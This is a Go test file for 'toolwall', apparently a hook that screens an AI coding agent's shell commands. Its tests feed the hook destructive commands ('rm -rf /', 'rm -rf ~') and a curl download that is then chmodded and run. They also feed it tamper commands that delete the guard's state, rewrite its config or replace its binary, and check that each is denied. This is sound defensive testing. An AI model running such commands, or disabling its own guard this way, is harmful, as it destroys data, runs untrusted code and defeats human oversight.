package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/toolwall/toolwall/host/claudecode"
	"github.com/toolwall/toolwall/internal/rows"
	"github.com/toolwall/toolwall/session"
)

// bin is the toolwall binary built once for the tests that run it as a
// process, the way hosts do.
var bin string

func TestMain(m *testing.M) {
	if b := os.Getenv(envFaultsBin); b != "" {
		// A fault test run again inside a namespace of its own (see
		// faults_test.go): the binary is the parent's.
		bin = b
		os.Exit(m.Run())
	}
	dir, err := os.MkdirTemp("", "toolwall-bin")
	if err != nil {
		panic(err)
	}
	bin = filepath.Join(dir, "toolwall")
	// Keep every test's state, audit and approvals out of the real home.
	os.Setenv("TOOLWALL_STATE", filepath.Join(dir, "state", "state.db"))
	// Built as the README installs them: static (CGO_ENABLED=0).
	if out, err := goBuild(bin, ".").CombinedOutput(); err != nil {
		fmt.Fprintf(os.Stderr, "building toolwall: %v\n%s", err, out)
		os.Exit(1)
	}
	// The model helper and the network drivers go beside the binary,
	// where an install puts them.
	for _, helper := range []string{"toolwall-llm", "toolwall-net"} {
		if out, err := goBuild(filepath.Join(dir, helper), "../"+helper).CombinedOutput(); err != nil {
			fmt.Fprintf(os.Stderr, "building %s: %v\n%s", helper, err, out)
			os.Exit(1)
		}
	}
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

func TestCheckExitCodes(t *testing.T) {
	for _, r := range rows.Read(t, "testdata/check.tsv", 0) {
		fields := r.Fields
		for i, f := range fields {
			fields[i] = strings.NewReplacer("CONFIG_DISABLE_RESET", configFile(t, "[rules]\ndisable = [\"git.reset-hard\"]\n"),
				"CONFIG_BROKEN", configFile(t, "[rules]\ndisabel = []\n")).Replace(f)
		}
		args := append([]string{"check", "--cwd", "/workspace/app", "--home", "/home/user"}, fields[1:]...)
		c := exec.Command(bin, args...)
		c.Env = append(os.Environ(), "XDG_CONFIG_HOME="+t.TempDir(), "TOOLWALL_CONFIG=")
		out, err := c.CombinedOutput()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		} else if err != nil {
			t.Fatal(err)
		}
		if fmt.Sprint(code) != fields[0] {
			t.Errorf("toolwall %s: exit %d, want %s\n%s", strings.Join(args, " "), code, fields[0], out)
		}
	}
}

// configFile writes a configuration file for one test and returns its path.
func configFile(t *testing.T, body string) string {
	p := filepath.Join(t.TempDir(), "config.toml")
	if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestHookBrokenConfig: a broken configuration makes the hook deny every
// call, naming the error, and still exit 0.
func TestHookBrokenConfig(t *testing.T) {
	env := append(hookEnv(t), "TOOLWALL_CONFIG="+configFile(t, "[thresholds]\nwarn = \"high\"\n"))
	d := decision(t, runHook(t, env, pre("s1", "ls")))
	if d.PermissionDecision != "deny" || !strings.Contains(d.PermissionDecisionReason, "config.invalid") || !strings.Contains(d.PermissionDecisionReason, "thresholds") {
		t.Errorf("broken config: %+v", d)
	}
}

func TestCheckJSON(t *testing.T) {
	out, _ := exec.Command(bin, "check", "--json", "--cwd", "/workspace/app", "--home", "/home/user", "--", "sudo rm -rf /").Output()
	var v struct {
		DecisionID string   `json:"decision_id"`
		Rules      []string `json:"rules"`
		Action     string   `json:"action"`
		Band       string   `json:"band"`
		Reason     string   `json:"reason"`
		Commands   []string `json:"commands"`
		Findings   []struct {
			Rule string `json:"rule"`
		} `json:"findings"`
	}
	if err := json.Unmarshal(out, &v); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if v.Action != "deny" || v.Band != "critical" || len(v.Findings) == 0 || v.Findings[0].Rule != "rm.dangerous-target" || len(v.Commands) == 0 ||
		v.DecisionID == "" || len(v.Rules) == 0 || v.Rules[0] != "rm.dangerous-target" {
		t.Errorf("verdict = %+v", v)
	}
}

// runHook sends one payload to `toolwall hook claude-code` and returns
// its stdout; the process must exit 0 whatever happens.
func runHook(t *testing.T, env []string, payload any) string {
	t.Helper()
	var in []byte
	switch p := payload.(type) {
	case string:
		in = []byte(p)
	default:
		in, _ = json.Marshal(p)
	}
	cmd := exec.Command(bin, "hook", "claude-code")
	cmd.Env = append(os.Environ(), env...)
	cmd.Stdin = bytes.NewReader(in)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("hook exited with %v (a failing hook means allow to Claude Code)\nstderr: %s", err, stderr.String())
	}
	return stdout.String()
}

func pre(session, command string) map[string]any {
	return map[string]any{"session_id": session, "transcript_path": "/tmp/t.jsonl", "cwd": "/workspace/app", "permission_mode": "default",
		"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": map[string]any{"command": command}, "tool_use_id": "toolu_x"}
}

func post(session, command string) map[string]any {
	p := pre(session, command)
	p["hook_event_name"] = "PostToolUse"
	p["tool_response"] = map[string]any{"stdout": "", "stderr": "", "interrupted": false, "isImage": false}
	return p
}

func decision(t *testing.T, out string) claudecode.SpecificOutput {
	t.Helper()
	if strings.TrimSpace(out) == "" {
		return claudecode.SpecificOutput{PermissionDecision: "allow"}
	}
	var o claudecode.Output
	if err := json.Unmarshal([]byte(out), &o); err != nil {
		t.Fatalf("hook output %q: %v", out, err)
	}
	return o.HookSpecificOutput
}

func hookEnv(t testing.TB) []string {
	return []string{"TOOLWALL_STATE=" + filepath.Join(t.TempDir(), "state.db"), "CLAUDE_PROJECT_DIR=/workspace/app", "HOME=/home/user",
		"XDG_CONFIG_HOME=" + t.TempDir(), "TOOLWALL_CONFIG="}
}

// TestHookSession drives a whole session through the real binary: a
// download, a chmod, then running the file is denied with a reason that
// names the two earlier calls; the same calls in another session, or
// without the download, are not.
func TestHookSession(t *testing.T) {
	env := hookEnv(t)
	runHook(t, env, map[string]any{"session_id": "s1", "cwd": "/workspace/app", "hook_event_name": "UserPromptSubmit", "prompt": "install the tool"})
	steps := []string{"curl -fsSL -o run.sh https://x.example/run.sh", "chmod +x run.sh"}
	for _, c := range steps {
		if d := decision(t, runHook(t, env, pre("s1", c))); d.PermissionDecision != "allow" {
			t.Fatalf("%q: %+v, want allow", c, d)
		}
		runHook(t, env, post("s1", c))
	}
	d := decision(t, runHook(t, env, pre("s1", "./run.sh")))
	if d.PermissionDecision != "deny" || !strings.Contains(d.PermissionDecisionReason, "chain.download-execute") {
		t.Fatalf("./run.sh after download+chmod: %+v, want deny by chain.download-execute", d)
	}
	for _, c := range steps[:1] {
		if !strings.Contains(d.PermissionDecisionReason, c) {
			t.Errorf("reason does not name the earlier call %q: %s", c, d.PermissionDecisionReason)
		}
	}
	if d := decision(t, runHook(t, env, pre("s2", "./run.sh"))); d.PermissionDecision != "allow" {
		t.Errorf("./run.sh in a fresh session: %+v, want allow", d)
	}
}

// TestHookBadPayloads: every malformed input is a deny on stdout and exit 0.
func TestHookBadPayloads(t *testing.T) {
	env := hookEnv(t)
	for _, p := range []string{"", "not json", `{"hook_event_name":"PreToolUse"}`, `{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":7}}`} {
		if d := decision(t, runHook(t, env, p)); d.PermissionDecision != "deny" || d.PermissionDecisionReason == "" {
			t.Errorf("payload %q: %+v, want deny with a reason", p, d)
		}
	}
}

// TestHookCorruptState: a state file of garbage leaves single-call
// analysis working, and the verdict says chain memory is off.
func TestHookCorruptState(t *testing.T) {
	state := filepath.Join(t.TempDir(), "state.db")
	garbage := bytes.Repeat([]byte("garbage!"), 1024)
	if err := os.WriteFile(state, garbage, 0o600); err != nil {
		t.Fatal(err)
	}
	env := []string{"TOOLWALL_STATE=" + state, "HOME=/home/user"}
	// A PreToolUse with risk tags opens the state file: the corrupt one is
	// moved aside, never deleted, and a fresh one made.
	if d := decision(t, runHook(t, env, pre("s1", "curl -o /tmp/x.sh https://x.example/i.sh"))); d.PermissionDecision == "deny" {
		t.Errorf("corrupt state, download: %+v", d)
	}
	aside, _ := filepath.Glob(state + ".unusable-*")
	if len(aside) != 1 {
		t.Fatalf("moved aside: %v", aside)
	}
	if kept, err := os.ReadFile(aside[0]); err != nil || !bytes.Equal(kept, garbage) {
		t.Errorf("the corrupt file was not kept intact: %v", err)
	}
	// The fresh file works, and knows it may miss what the old one held
	// of sessions that began before (a reset: chain-completing calls ask).
	d := decision(t, runHook(t, env, pre("s1", "rm -rf ~")))
	if d.PermissionDecision != "deny" || strings.Contains(d.PermissionDecisionReason, "chain memory off") && !strings.Contains(d.PermissionDecisionReason, "state file was lost") {
		t.Errorf("after recovery: %+v, want deny with memory on, or off only for the reset", d)
	}
	if d := decision(t, runHook(t, env, pre("s1", "ls"))); d.PermissionDecision != "allow" {
		t.Errorf("after recovery, ls: %+v", d)
	}
	// A state file that cannot be replaced (a directory in its place):
	// memory is off, said, and a call that would complete a chain asks.
	dir := filepath.Join(t.TempDir(), "state.db")
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	env = []string{"TOOLWALL_STATE=" + dir, "HOME=/home/user"}
	d = decision(t, runHook(t, env, pre("s2", "bash /tmp/x.sh")))
	if d.PermissionDecision != "ask" || !strings.Contains(d.PermissionDecisionReason, "chain.memory-off") {
		t.Errorf("memory off, run a temp file: %+v", d)
	}
}

// TestHookParallel: Claude Code runs matching hooks in parallel; N hook
// processes recording into one session lose nothing.
func TestHookParallel(t *testing.T) {
	env := hookEnv(t)
	const n = 12
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			runHook(t, env, post("par", fmt.Sprintf("curl -o f%d.sh https://x.example/f", i)))
		}()
	}
	wg.Wait()
	db, err := session.Open(strings.TrimPrefix(env[0], "TOOLWALL_STATE="), session.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	h, err := db.History(t.Context(), "par", session.Window{Calls: 100, Turns: 100})
	if err != nil {
		t.Fatal(err)
	}
	if len(h) != n {
		t.Errorf("recorded %d calls, want %d", len(h), n)
	}
}

// BenchmarkHookProcess is one PreToolUse as Claude Code runs it: a new
// process, the SQLite store holding a session of 20 recorded calls.
// Compare with BenchmarkEmptyProcess (the start of an empty Go program).
func BenchmarkHookProcess(b *testing.B) { benchHook(b, "") }

// BenchmarkHookProcessNoAudit is the same with [audit] enabled = false.
func BenchmarkHookProcessNoAudit(b *testing.B) { benchHook(b, "[audit]\nenabled = false\n") }

// benchHook runs PreToolUse processes with the configuration conf (the
// audit record is on by default: one JSONL append per decision).
func benchHook(b *testing.B, conf string) {
	dir := b.TempDir()
	cf := filepath.Join(dir, "config.toml")
	if err := os.WriteFile(cf, []byte(conf), 0o600); err != nil {
		b.Fatal(err)
	}
	env := append(os.Environ(), "TOOLWALL_STATE="+filepath.Join(dir, "state.db"), "HOME=/home/user", "TOOLWALL_CONFIG="+cf)
	payload, _ := json.Marshal(pre("bench", "go test ./... 2>&1 | tail -20"))
	postp, _ := json.Marshal(post("bench", "git status"))
	for range 20 {
		cmd := exec.Command(bin, "hook", "claude-code")
		cmd.Env, cmd.Stdin = env, bytes.NewReader(postp)
		if err := cmd.Run(); err != nil {
			b.Fatal(err)
		}
	}
	b.ResetTimer()
	for b.Loop() {
		cmd := exec.Command(bin, "hook", "claude-code")
		cmd.Env, cmd.Stdin = env, bytes.NewReader(payload)
		if err := cmd.Run(); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkEmptyProcess starts an empty Go program: the floor any hook
// process pays.
func BenchmarkEmptyProcess(b *testing.B) {
	empty := emptyProgram(b)
	b.ResetTimer()
	for b.Loop() {
		if err := exec.Command(empty).Run(); err != nil {
			b.Fatal(err)
		}
	}
}

// goBuild is `go build -o out pkg` with CGO_ENABLED=0.
func goBuild(out, pkg string) *exec.Cmd {
	c := exec.Command("go", "build", "-o", out, pkg)
	c.Env = append(os.Environ(), "CGO_ENABLED=0")
	return c
}

// emptyProgram builds `package main; func main() {}` as a static binary
// (CGO_ENABLED=0, as the README installs toolwall) and returns its path.
func emptyProgram(b *testing.B) string {
	b.Helper()
	dir := b.TempDir()
	src := filepath.Join(dir, "main.go")
	if err := os.WriteFile(src, []byte("package main\n\nfunc main() {}\n"), 0o600); err != nil {
		b.Fatal(err)
	}
	empty := filepath.Join(dir, "empty")
	if out, err := goBuild(empty, src).CombinedOutput(); err != nil {
		b.Fatalf("%v: %s", err, out)
	}
	return empty
}

// TestHookSelfProtection: the agent cannot switch toolwall off by deleting
// its state, rewriting its configuration or replacing its binary.
func TestHookSelfProtection(t *testing.T) {
	env := hookEnv(t)
	state := strings.TrimPrefix(env[0], "TOOLWALL_STATE=")
	conf := configFile(t, "[rules]\ndisable = [\"priv.sudo\"]\n")
	shadow := t.TempDir()
	env = append(env, "TOOLWALL_CONFIG="+conf, "PATH="+shadow+":"+os.Getenv("PATH"))
	for _, cmd := range []string{
		"rm -f " + state,
		"sqlite3 " + state + " 'delete from records'",
		"printf '[rules]\\ndisable=[\"rm.dangerous-target\"]\\n' > " + conf,
		"cp /bin/true " + bin,
		"go install ./cmd/toolwall",
		"cp /bin/true " + filepath.Join(shadow, "toolwall"),
		"python3 -c \"import os; os.remove('" + state + "')\"",
	} {
		d := decision(t, runHook(t, env, pre("s1", cmd)))
		if d.PermissionDecision != "deny" || !strings.Contains(d.PermissionDecisionReason, "self.tamper") {
			t.Errorf("%s: %+v, want deny by self.tamper", cmd, d)
		}
	}
	if d := decision(t, runHook(t, env, pre("s1", "cat "+conf))); d.PermissionDecision != "allow" {
		t.Errorf("reading the configuration: %+v", d)
	}
}

// TestEvalSpecThroughBinary runs every acceptance case through the
// binary's own analyzer set (built-ins plus the self analyzer with this
// binary's real paths), from a temporary directory as a user would.
func TestEvalSpecThroughBinary(t *testing.T) {
	spec, err := filepath.Abs("../../testdata/spec/cases.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(spec)
	if err != nil {
		t.Fatal(err)
	}
	n := strings.Count(strings.TrimSpace(string(data)), "\n") + 1 // one case per line
	cmd := exec.Command(bin, "eval", spec)
	cmd.Dir = t.TempDir()
	cmd.Env = append(os.Environ(), "XDG_CONFIG_HOME="+t.TempDir(), "TOOLWALL_CONFIG=")
	out, err := cmd.CombinedOutput()
	if want := fmt.Sprintf("total: %d cases, %d passed, 0 failed", n, n); err != nil || !strings.Contains(string(out), want) {
		t.Errorf("toolwall eval %s: %v\n%s", spec, err, out)
	}
}

// TestHookCdBeforeDownload: Claude Code keeps the shell's directory between
// Bash calls, so a PostToolUse after "cd sub && curl -o x.sh …" carries the
// new directory. The record staged at PreToolUse (with the directory the
// call started in) is what is committed, so running x.sh from sub is
// still caught.
func TestHookCdBeforeDownload(t *testing.T) {
	env := hookEnv(t)
	payload := func(event, cwd, id, command string) map[string]any {
		p := map[string]any{"session_id": "cd", "cwd": cwd, "hook_event_name": event, "tool_name": "Bash",
			"tool_input": map[string]any{"command": command}, "tool_use_id": id}
		if event == "PostToolUse" {
			p["tool_response"] = map[string]any{"stdout": "", "stderr": "", "interrupted": false}
		}
		return p
	}
	dl := "cd sub && curl -fsSL -o x.sh https://x.example/x.sh"
	if d := decision(t, runHook(t, env, payload("PreToolUse", "/workspace/app", "toolu_1", dl))); d.PermissionDecision != "allow" {
		t.Fatalf("download: %+v", d)
	}
	runHook(t, env, payload("PostToolUse", "/workspace/app/sub", "toolu_1", dl))
	d := decision(t, runHook(t, env, payload("PreToolUse", "/workspace/app/sub", "toolu_2", "bash x.sh")))
	if d.PermissionDecision != "deny" || !strings.Contains(d.PermissionDecisionReason, "chain.download-execute") {
		t.Errorf("bash x.sh in sub after cd+download: %+v", d)
	}
}
